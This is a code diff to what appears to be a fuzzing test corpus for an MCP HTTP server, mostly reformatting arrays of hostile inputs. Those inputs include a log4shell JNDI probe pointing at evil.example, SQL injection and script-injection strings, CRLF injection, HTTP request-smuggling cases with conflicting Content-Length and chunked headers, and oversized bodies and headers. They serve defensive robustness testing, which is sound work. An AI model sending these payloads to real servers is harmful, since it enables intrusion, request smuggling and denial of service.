@@ -177,6 +177,7 @@ export const INJECTION_STRINGS = [
   '%zz',
   '%%32%65',
   "' OR '1'='1",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text of a log4shell probe is the point
   '${jndi:ldap://evil.example/a}',
   '<script>alert(1)</script>',
   'ünïcødé-名前',
@@ -191,10 +192,12 @@ export function injectionArb(realId: string): fc.Arbitrary<string> {
     fragment,
     fragment.map((s) => `${realId}${s}`),
     fragment.map((s) => `${realId}/${s}`),
-    fc.array(fc.oneof(fragment, fc.constantFrom('..', '/', '%2e', '%2f', '?', '#', '&', '=', '\r', '\n', 'x')), {
-      minLength: 2,
-      maxLength: 6,
-    }).map((parts) => parts.join('')),
+    fc
+      .array(fc.oneof(fragment, fc.constantFrom('..', '/', '%2e', '%2f', '?', '#', '&', '=', '\r', '\n', 'x')), {
+        minLength: 2,
+        maxLength: 6,
+      })
+      .map((parts) => parts.join('')),
   );
 }
 
@@ -331,7 +334,20 @@ export function brokenJsonCases(context: CorpusContext, count: number, seed: num
     fc.string({ maxLength: 200 }),
     fc.nat({ max: valid.length - 1 }).map((n) => valid.slice(0, n)),
     fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes).toString('latin1')),
-    fc.constantFrom('', ' ', 'null', '[]', '{}', '[{}]', '"str"', '1', 'true', '{"jsonrpc":"2.0",}', "{'a':1}", '\uFEFF{}'),
+    fc.constantFrom(
+      '',
+      ' ',
+      'null',
+      '[]',
+      '{}',
+      '[{}]',
+      '"str"',
+      '1',
+      'true',
+      '{"jsonrpc":"2.0",}',
+      "{'a':1}",
+      '\uFEFF{}',
+    ),
     fc.json().map((json) => `${json}}`),
   );
   return fc
@@ -536,11 +552,11 @@ export function hugeBodyCases(context: CorpusContext): HostileRequest[] {
     ['string just over the limit', wrapArgs(`{"search":"${'x'.repeat(limit + 10)}"}`)],
     ['ten times the limit', `{"jsonrpc":"2.0","id":1,"method":"ping","params":{"x":"${'y'.repeat(limit * 10)}"}}`],
     ['100k element array', wrapArgs(`{"company_uuids":[${Array(100_000).fill('"a"').join(',')}]}`)],
+    ['50k keys', wrapArgs(`{${Array.from({ length: 50_000 }, (_, i) => `"k${i}":1`).join(',')}}`)],
     [
-      '50k keys',
-      wrapArgs(`{${Array.from({ length: 50_000 }, (_, i) => `"k${i}":1`).join(',')}}`),
+      'batch of 10k requests',
+      JSON.stringify(Array.from({ length: 10_000 }, (_, i) => ({ jsonrpc: '2.0', id: i, method: 'ping' }))),
     ],
-    ['batch of 10k requests', JSON.stringify(Array.from({ length: 10_000 }, (_, i) => ({ jsonrpc: '2.0', id: i, method: 'ping' })))],
   ];
   const kinds: Envelope[] = ['stateless-2026', 'session-2025', 'messages-direct', 'legacy-session'];
   return bodies.flatMap(([name, body]) =>
@@ -559,8 +575,17 @@ export function rawCases(context: CorpusContext, origin: string): HostileRequest
   const cases: [string, string][] = [
     ['header of 20 KB', request('POST /mcp HTTP/1.1', [auth, ...json, `X-Big: ${'a'.repeat(20_000)}`], body)],
     ['header of 100 KB', request('POST /mcp HTTP/1.1', [auth, ...json, `X-Big: ${'a'.repeat(100_000)}`], body)],
-    ['2,000 headers', request('GET /healthz HTTP/1.1', Array.from({ length: 2_000 }, (_, i) => `X-H${i}: v`))],
-    ['session id of 20 KB', request('POST /mcp HTTP/1.1', [auth, ...json, `Mcp-Session-Id: ${'s'.repeat(20_000)}`], body)],
+    [
+      '2,000 headers',
+      request(
+        'GET /healthz HTTP/1.1',
+        Array.from({ length: 2_000 }, (_, i) => `X-H${i}: v`),
+      ),
+    ],
+    [
+      'session id of 20 KB',
+      request('POST /mcp HTTP/1.1', [auth, ...json, `Mcp-Session-Id: ${'s'.repeat(20_000)}`], body),
+    ],
     ['token of 20 KB', request('POST /mcp HTTP/1.1', [`Authorization: Bearer ${'t'.repeat(20_000)}`, ...json], body)],
     ['CRLF in the path', request('GET /messages?sessionId=a\r\nX-Injected: 1 HTTP/1.1', [auth])],
     ['space in the path', request('GET /mcp /x HTTP/1.1', [auth])],
@@ -569,10 +594,22 @@ export function rawCases(context: CorpusContext, origin: string): HostileRequest
     ['invalid header name', request('GET /healthz HTTP/1.1', ['Bad Name: x'])],
     ['NUL in a header', request('POST /mcp HTTP/1.1', [auth, ...json, 'X-Nul: a\u0000b'], body)],
     ['obs-fold header', request('POST /mcp HTTP/1.1', [auth, ...json, 'X-Fold: a\r\n b'], body)],
-    ['two Content-Length', `POST /mcp HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${auth}\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\n${body}`],
-    ['Content-Length and chunked', `POST /mcp HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${auth}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`],
-    ['bad chunk size', `POST /mcp HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${auth}\r\n${json.join('\r\n')}\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n`],
-    ['negative Content-Length', `POST /mcp HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${auth}\r\nContent-Length: -1\r\n\r\n`],
+    [
+      'two Content-Length',
+      `POST /mcp HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${auth}\r\nContent-Length: 5\r\nContent-Length: 50\r\n\r\n${body}`,
+    ],
+    [
+      'Content-Length and chunked',
+      `POST /mcp HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${auth}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`,
+    ],
+    [
+      'bad chunk size',
+      `POST /mcp HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${auth}\r\n${json.join('\r\n')}\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n`,
+    ],
+    [
+      'negative Content-Length',
+      `POST /mcp HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${auth}\r\nContent-Length: -1\r\n\r\n`,
+    ],
     ['HTTP/0.9 request', 'GET /\r\n\r\n'],
     ['unknown HTTP version', `GET / HTTP/9.9\r\nHost: ${host}\r\nConnection: close\r\n\r\n`],
     ['absolute-form target', request(`GET http://evil.example/mcp HTTP/1.1`, [auth])],
